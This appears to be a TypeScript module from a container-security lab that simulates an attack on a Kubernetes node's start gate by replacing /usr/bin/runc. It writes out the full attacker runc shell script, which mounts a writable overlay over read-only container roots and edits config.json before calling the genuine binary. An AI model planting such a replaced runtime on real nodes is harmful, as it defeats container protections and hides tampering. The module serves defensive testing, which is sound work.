/**
 * Attack (T1562.001 Impair Defenses, T1554 Compromise Host Software
 * Binary): root on the node replaces `/usr/bin/runc`, the OCI runtime the
 * start gate's wrapper hands over to. The wrapper and the gate daemon are
 * untouched and still decide, but what runs after them is the attacker's:
 * on `create` of a workload container whose root the gate made read-only
 * (no upperdir), it stacks a writable overlay (an upperdir of its own) on
 * that root and clears `root.readonly`, then runs the genuine runc. Root
 * then writes into that upperdir from the node. On a node without the gate
 * the root already has an upperdir; the replaced runc passes it through and
 * the write lands the same way.
 *
 * What must catch it: the start gate, which pins the runtime it hands over
 * to when its daemon starts and refuses a protected container once the
 * runtime is other bytes (lab/gates/pins.ts, runtimePin).
 */
import type { LabNodeHandle } from '../../node/index.ts';
import { replaceNodeBinary, ungatedWriteAfter } from './defence-tamper.ts';

export const RUNC = '/usr/bin/runc';
/** Where the attacker keeps the genuine runc. */
const GENUINE = '/usr/lib/runc.genuine';

/**
 * Shell text that, for `$bundle` of a workload container whose root the
 * start gate made read-only (no upperdir), stacks a writable overlay of the
 * attacker's on that root and clears `root.readonly`; nothing otherwise.
 * `work` is where the attacker keeps its upperdirs.
 */
export function undoReadOnlyRoot(work: string): string {
  return `if [ -f "$bundle/config.json" ] && grep -q '"io.kubernetes.cri.container-type":"container"' "$bundle/config.json" && grep -q '"readonly":true' "$bundle/config.json"; then
  # Beside containerd's snapshots: an overlayfs upperdir cannot be on the node's own overlay root.
  w=${work}/$(basename "$bundle")
  mkdir -p "$w/upper" "$w/work"
  # The image's directories, made in the upperdir beforehand: a directory the
  # container pins (/etc, under its bind-mounted hosts file) would otherwise
  # never show a file written into the upperdir later.
  (cd "$bundle/rootfs" && find . -maxdepth 3 -type d) | (cd "$w/upper" && xargs mkdir -p)
  mount -t overlay overlay -o "lowerdir=$bundle/rootfs,upperdir=$w/upper,workdir=$w/work" "$bundle/rootfs" 2>>${work}/log && sed -i 's/"readonly":true/"readonly":false/' "$bundle/config.json"
fi`;
}

/** The attacker's runc: undoes the start gate's read-only root, then runs the genuine runc. */
export const ATTACKER_RUNC = `#!/bin/sh
bundle=
prev=
create=
for a in "$@"; do
  case "$prev" in --bundle|-b) bundle=$a ;; esac
  [ "$a" = create ] && create=1
  prev=$a
done
if [ -n "$create" ]; then
${undoReadOnlyRoot('/var/lib/containerd/attacker-runc')}
fi
exec ${GENUINE} "$@"
`;

/** Moves the genuine runc aside and renames the attacker's over it (what a package upgrade does too); evidence of both. */
export async function replaceRunc(node: LabNodeHandle): Promise<Record<string, unknown>> {
  const genuineSha256 = await replaceNodeBinary(node, RUNC, ATTACKER_RUNC, GENUINE);
  return { runc: RUNC, genuineSha256, genuineMovedTo: GENUINE, replacedBy: 'a runc that stacks a writable overlay on a read-only root, then execs the genuine runc' };
}

export const runcReplace = ungatedWriteAfter('runc-replace', async ({ node }) => ({
  evidence: await replaceRunc(node),
  what: `${RUNC} was replaced by the attacker's runc`,
}));
